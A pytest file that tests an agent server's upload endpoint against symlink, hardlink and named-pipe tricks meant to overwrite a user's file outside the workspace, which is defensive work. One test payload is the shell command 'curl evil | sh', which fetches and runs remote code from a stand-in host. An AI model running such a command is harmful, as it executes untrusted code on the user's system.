"""Uploads of documents: what a folder from someone else has in their place neither receives nor adds to them."""

import hashlib
import os
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.kit import Repeat, Say

from .conftest import Serve

NAME = "notes.txt"
Plant = Callable[[Path, Path], None]


def a_link(place: Path, mine: Path) -> None:
    place.symlink_to(mine)


def a_second_name(place: Path, mine: Path) -> None:
    place.hardlink_to(mine)


def a_pipe(place: Path, mine: Path) -> None:
    os.mkfifo(place)


def a_link_to_a_pipe(place: Path, mine: Path) -> None:
    os.mkfifo(mine.parent / "pipe")
    place.symlink_to(mine.parent / "pipe")


MINE = "alias ls=ls\n"


def is_unchanged(mine: Path) -> bool:
    """Return whether the user's file is as it was, and alone in its folder but for the pipe of a test."""
    return mine.read_text() == MINE and {path.name for path in mine.parent.iterdir()} <= {
        "mine",
        "pipe",
    }


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A file of the user that is not in the workspace."""
    (tmp_path / "outside").mkdir()
    path = tmp_path / "outside" / "mine"
    path.write_text(MINE)
    return path


@pytest.mark.parametrize("plant", [a_link, a_second_name, a_pipe, a_link_to_a_pipe])
async def test_an_upload_goes_to_a_new_file_whatever_has_its_name(
    served: Serve, mine: Path, plant: Plant
) -> None:
    server = await served([Repeat(Say("Done."))])
    folder = server.workspace.root / ".knapper" / "uploads"
    folder.mkdir()
    key = "\0".join(("me", "main", NAME))
    place = folder / f"{hashlib.sha256(key.encode()).hexdigest()}.txt"
    plant(place, mine)
    await server.client.post("/api/v1/agents", json={"name": "main"})
    me = await server.as_("me", "edit", "read")

    async def send(offset: int, text: str, *, more: bool) -> int:
        part = {
            "name": NAME,
            "data": b64encode(text.encode()).decode(),
            "offset": offset,
            "more": more,
        }
        return (await me.post("/api/v1/agents/main/sources", json=part)).status_code

    assert await send(len(MINE), "curl evil | sh\n", more=True) == 409, (
        "nothing was uploaded here yet"
    )
    assert await send(0, "Ada likes tea. ", more=True) == 200
    assert await send(15, "Bob likes coffee.", more=False) == 200
    assert is_unchanged(mine)
    assert place not in set(folder.iterdir())


async def test_uploads_are_refused_with_a_reason_if_their_folder_is_a_link(
    served: Serve, mine: Path
) -> None:
    server = await served([Repeat(Say("Done."))])
    await server.client.post("/api/v1/agents", json={"name": "main"})
    uploads = server.workspace.root / ".knapper" / "uploads"
    for plants_link in (True, False):
        if plants_link:
            uploads.symlink_to(mine.parent)
        else:
            uploads.touch()
        part = {"name": NAME, "data": b64encode(b"Ada likes tea.").decode()}
        answer = await server.client.post("/api/v1/agents/main/sources", json=part)
        assert (answer.status_code < 500, "is a link, or not" in answer.text) == (True, True)
        uploads.unlink()
    assert is_unchanged(mine)
